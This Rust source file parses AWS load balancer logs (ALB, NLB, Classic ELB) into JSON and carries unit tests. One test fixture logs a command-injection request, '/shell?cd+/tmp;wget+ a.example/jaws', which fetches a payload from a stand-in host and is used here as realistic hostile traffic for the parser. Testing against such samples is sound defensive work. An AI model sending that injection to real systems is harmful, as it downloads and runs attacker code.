//! The Elastic Load Balancing logs, read by one reader: ALB access logs ([`super::alb`]),
//! ALB connection logs ([`super::alb_connection`]), Classic ELB access logs
//! ([`super::classic_elb`]) and NLB access logs ([`super::nlb`]).
//!
//! Their lines can be told apart by their first fields, and real files mix them (logs of
//! several load balancers gathered in one place), so the kind is recognised line by line:
//!
//! | first fields                                  | kind                  | source |
//! |-----------------------------------------------|-----------------------|--------|
//! | `http`/`https`/`h2`/`grpcs`/`ws`/`wss`, time  | ALB access log        | `alb`  |
//! | `tls`, a version (`1.0`, `2.0`)               | NLB access log        | `nlb`  |
//! | time, an IP address without port              | ALB connection log    | `alb`  |
//! | time, anything else (the load balancer name)  | Classic ELB access log| `elb`  |
//!
//! Anything else is a bad line, with the reason, never a guess. ALB and Classic ELB lines have
//! quoted fields; NLB lines are split at spaces only, since their ALPN list holds quotes.

use super::fields::{Scratch, Token, is_iso_time, split_quoted, split_spaces, write_field};
use super::json::Object;
use super::{LineError, LineKind, alb, alb_connection, classic_elb, nlb};
use crate::logsource::RecordSource;

/// The first two space-separated fields of `line` (empty when missing).
fn first_two(line: &[u8]) -> (&[u8], &[u8]) {
    let mut fields = line.split(|&b| b == b' ').filter(|f| !f.is_empty());
    (
        fields.next().unwrap_or_default(),
        fields.next().unwrap_or_default(),
    )
}

/// Reads load balancer log lines.
#[derive(Default)]
pub(crate) struct LoadBalancerReader {
    tokens: Vec<Token>,
    scratch: Scratch,
}

impl LoadBalancerReader {
    /// The text of field `index` of `line`, once split.
    fn field<'l>(&self, line: &'l [u8], index: usize) -> Option<&'l [u8]> {
        self.tokens.get(index).map(|token| token.text(line))
    }

    /// Reads one line (see [`super::TextReader::read_line`]).
    pub(crate) fn read_line(
        &mut self,
        line: &[u8],
        out: &mut Vec<u8>,
    ) -> Result<LineKind, LineError> {
        let (first, second) = first_two(line);
        if first.is_empty() {
            return Ok(LineKind::Blank);
        }
        let (layout, source) = if nlb::recognise(first, second) {
            split_spaces(line, &mut self.tokens);
            (&nlb::LAYOUT, RecordSource::Nlb)
        } else {
            split_quoted(line, &mut self.tokens)
                .map_err(|open| LineError::UnterminatedQuote { at: open.at })?;
            if alb::recognise(first, second) {
                (&alb::LAYOUT, RecordSource::Alb)
            } else if !is_iso_time(first) {
                return Err(LineError::UnknownLoadBalancerLine);
            } else if self.field(line, 1).is_some_and(is_ip) {
                (&alb_connection::LAYOUT, RecordSource::Alb)
            } else if self.field(line, 2).is_some_and(is_endpoint) {
                (&classic_elb::LAYOUT, RecordSource::Elb)
            } else {
                return Err(LineError::UnknownLoadBalancerLine);
            }
        };
        if self.tokens.len() < layout.min_fields {
            return Err(LineError::TooFewFields {
                format: layout.name,
                found: self.tokens.len(),
                min: layout.min_fields,
            });
        }
        let mut object = Object::open(out);
        let mut time = None;
        for (&(name, kind), &token) in layout.fields.iter().zip(&self.tokens) {
            write_field(&mut object, (name, kind), line, token, &mut self.scratch);
            if name == "time" {
                time = Some(token.text(line));
            }
        }
        if let Some(time) = time {
            write_timestamp(&mut object, time);
        }
        object.close();
        Ok(LineKind::Record(source))
    }
}

/// Whether `text` is an IP address (without a port).
fn is_ip(text: &[u8]) -> bool {
    std::str::from_utf8(text).is_ok_and(|t| t.parse::<std::net::IpAddr>().is_ok())
}

/// Whether `text` is `ip:port` (the address possibly in brackets), or `-`.
fn is_endpoint(text: &[u8]) -> bool {
    let Some(colon) = text.iter().rposition(|&b| b == b':') else {
        return text == b"-";
    };
    let ip = &text[..colon];
    let ip = ip
        .strip_prefix(b"[")
        .and_then(|ip| ip.strip_suffix(b"]"))
        .unwrap_or(ip);
    is_ip(ip) && text.len() > colon + 1 && text[colon + 1..].iter().all(u8::is_ascii_digit)
}

/// Writes `timestamp` from a `time` field: an ALB's RFC 3339 time as it is, an NLB's zone-less
/// UTC time (`YYYY-MM-DDTHH:MM:SS`) with a `Z` appended.
fn write_timestamp(object: &mut Object<'_>, time: &[u8]) {
    if !is_iso_time(time) {
        return;
    }
    if time.len() == 19 {
        let mut text = [0u8; 20];
        text[..19].copy_from_slice(time);
        text[19] = b'Z';
        object.string("timestamp", &text);
    } else if time.ends_with(b"Z") {
        object.string("timestamp", time);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(line: &str) -> Result<(serde_json::Value, RecordSource), LineError> {
        let mut out = Vec::new();
        match LoadBalancerReader::default().read_line(line.as_bytes(), &mut out)? {
            LineKind::Record(source) => Ok((serde_json::from_slice(&out).unwrap(), source)),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn alb_lines_with_awkward_fields() {
        // A space in the URL, no target, `-1` timings, classification fields.
        let line = r#"http 2022-05-12T06:41:29.051646Z app/admin/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws HTTP/1.1" "Hello, \"world\"" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell" "-" "-" "-" "Acceptable" "SpaceInUri""#;
        let (record, source) = read(line).unwrap();
        assert_eq!(source, RecordSource::Alb);
        assert_eq!(record["request_processing_time"], -1);
        assert_eq!(
            record["request_url"],
            "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws"
        );
        assert_eq!(record["request_protocol"], "HTTP/1.1");
        assert_eq!(record["user_agent"], r#"Hello, "world""#);
        assert_eq!(record["classification_reason"], "SpaceInUri");
        assert!(record.get("target:port").is_none() && record.get("target_ip").is_none());
        assert!(record.get("target_status_code").is_none());
        assert!(record.get("conn_trace_id").is_none()); // not in this older line
    }

    #[test]
    fn ipv6_clients() {
        let line = r#"h2 2018-07-02T22:23:00.186641Z app/lb/50dc 2001:db8::1:2817 [2001:db8::2]:80 0.000 0.002 0.000 200 200 5 257 "GET https://h:443/ HTTP/2.0" "curl/7.46.0" - -"#;
        let (record, _) = read(line).unwrap();
        assert_eq!(record["client_ip"], "2001:db8::1");
        assert_eq!(record["client_port"], 2817);
        assert_eq!(record["target_ip"], "2001:db8::2");
    }

    #[test]
    fn classic_elb_tcp_lines() {
        let line = r#"2019-10-17T13:22:51.758784Z my-elb 77.227.156.41:51600 10.0.0.47:80 0.000943 0.00001 0.000015 - - 134 859 "- - - " "-" - -"#;
        let (record, source) = read(line).unwrap();
        assert_eq!(source, RecordSource::Elb);
        assert_eq!(record["request"], "- - - ");
        assert!(record.get("request_method").is_none() && record.get("user_agent").is_none());
        assert!(record.get("elb_status_code").is_none());
        assert_eq!(record["received_bytes"], 134);
    }

    #[test]
    fn bad_lines_have_reasons() {
        assert_eq!(
            read("Phony unsupported log format.").unwrap_err(),
            LineError::UnknownLoadBalancerLine
        );
        assert_eq!(
            read(
                r#"http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - 0 0 0 200 200 1 1 "GET / HTTP/1.1"#
            )
            .unwrap_err(),
            LineError::UnterminatedQuote { at: 62 }
        );
        assert_eq!(
            read("http 2018-07-02T22:23:00Z app/x 1.2.3.4:5").unwrap_err(),
            LineError::TooFewFields {
                format: "ALB access log",
                found: 4,
                min: 14
            }
        );
    }
}
